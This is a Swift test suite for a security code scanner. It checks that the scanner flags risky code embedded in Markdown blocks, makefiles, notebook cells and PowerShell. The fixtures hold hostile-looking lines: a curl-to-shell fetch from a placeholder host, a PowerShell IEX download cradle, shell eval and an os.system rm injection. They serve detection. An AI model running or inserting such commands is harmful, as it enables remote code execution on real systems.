import Foundation
import Review
import Testing
import Text

/// Code in files of other kinds: blocks of Markdown, recipes of makefiles, cells of notebooks.
@Suite struct EmbeddedCodeTests {
    private func found(in text: String, of path: String) -> [String] {
        review(Array(text.utf8), language: Language(path: path), path: path).map {
            "\($0.range.startLine):\($0.range.startByte)-\($0.range.endByte) \($0.severity) \($0.ruleID)"
        }
    }

    @Test func `blocks of Markdown are reviewed in their languages, as examples`() {
        let text = """
            # Use
            ```python
            import os
            os.system('rm ' + name)
            ```
            os.system('rm ' + name)
              ~~~~ js title="a"
              eval(code)
              ~~~
              eval(code)
              ~~~~
            ```
            eval(code)
            ```
            ```console
            eval(code)
            """
        #expect(
            found(in: text, of: "README.md") == [
                "3:0-23 info command/python-shell", "7:2-12 info eval/javascript-eval",
                "9:2-12 info eval/javascript-eval",
            ])
    }

    @Test func `a secret in a block of Markdown is one, and told once`() {
        let token = "ghp_" + "aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5"
        let text = "```sh\nexport TOKEN=\(token)\n```\n"
        #expect(
            found(in: text, of: "docs.md").map { $0.split(separator: " ").dropFirst() } == [
                ["critical", "secrets/known-token"]
            ])
    }

    @Test func `a notebook on one line is reviewed cell by cell, each finding where it stands`() {
        let text =
            #"{"cells": [{"cell_type": "markdown", "source": ["yaml.load(x)"]}, {"cell_type": "code", "metadata""#
            + #": {}, "source": ["import yaml\n", "data = yaml.load(text)\n", "!curl http://x.example/i | sh"]}, "#
            + #"{"source": "import yaml\nyaml.load(\"é\" + text)", "cell_type": "code"}], "nbformat": 4}"#
        let bytes = Array(text.utf8)
        let findings = review(bytes, language: Language(path: "a.ipynb"), path: "a.ipynb")
        let places = findings.map { finding in
            "\(finding.ruleID) \(String(decoding: bytes[finding.range.startByte..<finding.range.endByte], as: UTF8.self))"
        }
        #expect(findings.allSatisfy { $0.range.startLine == 0 && $0.fix == nil })
        #expect(
            Set(places) == [
                "eval/yaml-load yaml.load(text)", "eval/yaml-load yaml.load(\\\"é\\\" + text)",
                "command/curl-to-shell curl http://x.example/i | sh",
            ], "\(places)")
    }

    @Test func `a notebook on one line is reviewed anew with each edit`() {
        let text = #"{"cells": [{"cell_type": "code", "source": ["import yaml\n", "data = yaml.loan(text)"]}]}"#
        var document = ReviewedDocument(text: Array(text.utf8), language: Language(path: "a.ipynb"), path: "a.ipynb")
        document.review()
        #expect(document.findings.isEmpty)
        let column = text.utf8.distance(from: text.startIndex, to: text.firstRange(of: "loan")!.lowerBound) + 3
        document.replace(
            from: TextPosition(line: 0, character: column), to: TextPosition(line: 0, character: column + 1),
            with: "d".utf8, encoding: .utf8)
        document.review()
        #expect(document.findings.map(\.ruleID) == ["eval/yaml-load"])
    }

    @Test func `recipes of a makefile are reviewed as shell`() {
        let text = """
            NAME = $(shell eval "$$x")
            all:
            \t@eval "$$command"
            \techo "$(NAME)"; \\
            \teval "$$more"
            eval "$$x"

            """
        let expected = ["2:2-18 critical command/shell-eval", "4:1-14 critical command/shell-eval"]
        #expect(found(in: text, of: "Makefile") == expected)
        #expect(found(in: text, of: "build/rules.mk") == expected)
        #expect(found(in: text, of: "notes.txt") == [])
    }

    @Test func `cells of a notebook are reviewed as Python, magics as what they start`() {
        let text = #"""
            {
             "cells": [
              {
               "cell_type": "markdown",
               "source": [
                "os.system(\"rm \" + name)"
               ]
              },
              {
               "cell_type": "code",
               "metadata": {},
               "outputs": [],
               "source": [
                "import os\n",
                "os.system(\"rm \" + name)\n",
                "%time os.system(\"rm \" + name)\n",
                "!eval \"$x\""
               ]
              },
              {
               "cell_type": "code",
               "source": [
                "%%bash\n",
                "eval \"$y\""
               ]
              }
             ]
            }
            """#
        #expect(
            found(in: text, of: "a.ipynb") == [
                "14:5-30 critical command/python-shell", "16:6-17 critical command/shell-eval",
                "23:5-16 critical command/shell-eval",
            ])
    }

    @Test func `a fence that is opened or closed changes what stands below`() {
        var document = ReviewedDocument(
            text: Array("text\neval(code)\n".utf8), language: .plain, path: "a.md")
        document.review()
        #expect(document.findings.isEmpty)
        func insert(_ text: String, _ line: Int) {
            let place = TextPosition(line: line, character: 0)
            document.replace(from: place, to: place, with: text.utf8, encoding: .utf8)
            document.review()
        }
        insert("```js\n", 0)
        #expect(document.findings.map(\.range.startLine) == [2])
        insert("```\n", 1)
        #expect(document.findings.isEmpty)
    }

    @Test func `a comment in a block says what is meant, and one that hides nothing is told where code runs`() {
        let example = "```js\neval(code); // codeforge-ignore eval/javascript-eval\n```\n"
        #expect(found(in: example, of: "a.md") == [])
        let recipes = """
            all:
            \teval "$$x" # codeforge-ignore command/shell-eval
            \techo on # codeforge-ignore command/shell-eval
            """
        let remarks = found(in: recipes, of: "Makefile")
        #expect(remarks.count == 1 && remarks.first?.hasPrefix("2:") == true, "\(remarks)")
        #expect(remarks.first?.hasSuffix("review/unused-ignore") == true, "\(remarks)")
    }

    @Test func `a block of a thousand lines is reviewed in slices`() {
        let lines = (0..<1000).map { "eval(code\($0));" }
        let text = "```js\n" + lines.joined(separator: "\n") + "\n```\n"
        var document = ReviewedDocument(text: Array(text.utf8), language: .plain, path: "a.md")
        var slices = 0
        while !document.isReviewed {
            document.review(units: 2000)
            slices += 1
        }
        #expect(slices > 3)
        #expect(document.findings.count == 1000)
    }

    @Test func `PowerShell is reviewed in any case`() {
        let text = """
            <# iex $a
            #>
            $url = 'x' # iex $a
            IEX (New-Object Net.WebClient).DownloadString($url)
            "text $(iex $b)"
            @"
            iex $c
            "@

            """
        #expect(
            found(in: text, of: "a.ps1").map { $0.split(separator: ":").first } == ["3", "4"])
    }

    @Test func `a block in a quote ends with it, and keeps its columns`() {
        let text = """
            > Use:
            > ```python
            > os.system('rm ' + name)
            os.system('rm ' + name)
            >> ~~~ js
            >> eval(code)
            > eval(code)
            """
        #expect(
            found(in: text, of: "README.md") == [
                "2:2-25 info command/python-shell", "5:3-13 info eval/javascript-eval",
            ])
    }
}
